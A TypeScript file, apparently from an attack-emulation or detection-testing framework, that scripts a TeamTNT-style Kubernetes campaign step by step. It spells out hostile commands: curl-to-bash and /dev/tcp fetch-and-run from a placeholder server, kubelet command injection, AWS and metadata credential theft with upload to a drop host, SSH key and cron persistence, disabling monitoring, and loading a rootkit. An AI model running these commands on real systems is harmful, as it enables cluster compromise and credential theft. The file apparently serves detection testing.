import { list } from './calls.ts'
import { api, type Campaign, CURL, deploy, enter, OTHER, run, token, VICTIM } from './campaign.ts'
import { mine } from './miner.ts'

export const TEAMTNT: Campaign = {
  id: 'teamtnt',
  title: 'TeamTNT and Chimaera: kubelet worm, Weave Scope, rootkit, miner',
  source: 'MITRE ATT&CK G0139; Chimaera scripts',
  victim: 'python',
  evasions: ['no-downloader', 'plain-names'],
  unseen: ['1: requests to the API of docker or of the kubelet'],
  rows: (attack) => {
    const { server, drop, namespace, evades } = attack
    const web = [[server, 80]] as const
    const fetch = evades('no-downloader')
      ? `exec 3<>/dev/tcp/${server}/80; cat <&3 | bash`
      : `curl -s http://${server}/aws.sh | bash`
    return [
      [
        '0:00',
        1,
        enter(VICTIM, `/bin/bash -c '${fetch}'`, { as: 'script', ...(evades('no-downloader') ? { to: web } : {}) })
      ],
      ...(evades('no-downloader')
        ? []
        : ([['0:01', 1, run('script', `/usr/bin/curl -s http://${server}/aws.sh`, { to: web })]] as const)),
      ['0:40', 2, run('script', '/usr/bin/curl -sk https://10.0.1.24:10250/pods', { to: [['10.0.1.24', 10250]] })],
      [
        '1:00',
        2,
        run(
          'script',
          `/usr/bin/curl -sk -XPOST https://10.0.1.24:10250/run/${attack.other.namespace}/${attack.other.workload}/app -d 'cmd=${fetch}'`,
          { to: [['10.0.1.24', 10250]] }
        )
      ],
      ['1:02', 2, enter(OTHER, `/bin/bash -c '${fetch}'`, { as: 'second', to: web })],
      [
        '2:30',
        3,
        run('script', '/usr/bin/tee -a /host/root/.ssh/authorized_keys', {
          writes: ['/host/root/.ssh/authorized_keys']
        })
      ],
      ['2:36', 3, run('script', '/usr/bin/tee /host/etc/cron.d/sys', { writes: ['/host/etc/cron.d/sys'] })],
      [
        '3:10',
        4,
        run('script', '/usr/bin/strings /proc/1/environ', {
          reads: ['/proc/1/environ', '/proc/7/environ', '/proc/19/environ', '/proc/23/environ']
        })
      ],
      [
        '3:16',
        4,
        run('script', '/bin/cat /root/.aws/credentials /root/.aws/config', { reads: ['/root/.aws/credentials'] })
      ],
      [
        '3:30',
        4,
        run('script', '/usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/', {
          to: [['169.254.169.254', 80]]
        })
      ],
      [
        '3:50',
        4,
        run('script', `/usr/bin/curl -s -F userfile=@/tmp/aws.tgz http://${drop}/in.php`, { to: [[drop, 80]] })
      ],
      ['5:00', 5, run('script', '/tmp/.x/peirates', { reads: ['token'], to: [['10.96.0.1', 443]] })],
      ['5:20', 5, api(token(CURL), list('pods', namespace), list('secrets', namespace), list('namespaces'))],
      [
        '6:00',
        5,
        deploy(token(CURL), 'scope', {
          kind: 'DaemonSet',
          namespace,
          name: evades('plain-names') ? `agent-${attack.random.fork('n').suffix(4)}` : `weave-scope-agent${attack.nth}`,
          pods: 2,
          template: {
            labels: { app: 'scope' },
            serviceAccount: 'default',
            hostPID: true,
            hostPaths: ['/var/run', '/'],
            containers: [
              {
                name: 'scope',
                image: 'weaveworks/scope:1.13.2',
                securityContext: { privileged: true },
                process: { binary: '/home/weave/scope', args: ['--probe.docker=true', `--app=${drop}`] }
              }
            ]
          }
        })
      ],
      ['7:00', 6, run('script', "/bin/sh -c 'systemctl stop aliyun.service; pkill -f cloudmonitor'")],
      ['7:06', 6, run('script', '/usr/sbin/iptables -F')],
      ['8:00', 7, run('script', '/usr/sbin/insmod /tmp/.x/diamorphine.ko')],
      ...mine(attack, '8:30', 7, 'script'),
      ...mine(attack, '8:40', 7, 'second')
    ]
  }
}
